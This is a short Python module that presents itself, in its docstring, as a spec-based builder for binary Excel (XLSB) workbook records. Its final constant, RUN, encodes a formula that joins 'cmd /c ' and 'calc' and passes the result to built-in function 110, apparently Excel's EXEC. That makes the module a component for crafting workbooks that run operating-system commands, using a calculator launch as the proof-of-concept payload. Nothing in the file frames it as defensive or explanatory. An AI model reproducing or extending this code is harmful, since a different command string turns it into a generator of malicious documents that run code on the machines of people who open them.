"""Builds parts of binary Excel workbooks from their specification ([MS-XLSB] 2.1.4, 2.4, 2.5.97)."""

import struct


def record(kind: int, content: bytes = b"") -> bytes:
    number = bytes((kind,)) if kind < 0x80 else bytes((kind & 0x7F | 0x80, kind >> 7))
    size = len(content)
    length = bytes((size,)) if size < 0x80 else bytes((size & 0x7F | 0x80, size >> 7))
    return number + length + content


def wide(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def token(text: str) -> bytes:
    return b"\x17" + struct.pack("<H", len(text)) + text.encode("utf-16-le")


def formula(column: int, kind: int, value: bytes, tokens: bytes) -> bytes:
    return record(kind, struct.pack("<II", column, 0) + value + struct.pack("<HI", 0, len(tokens)) + tokens + bytes(4))


def call(number: int, count: int) -> bytes:
    return struct.pack("<BBH", 0x42, count, number)


def sheet(*records: bytes) -> bytes:
    return record(129) + record(147, bytes(19)) + record(145) + b"".join(records) + record(146) + record(130)


ROW = record(0, struct.pack("<I", 4) + bytes(21))
RUN = token("cmd /c ") + token("calc") + b"\x08" + call(110, 1)
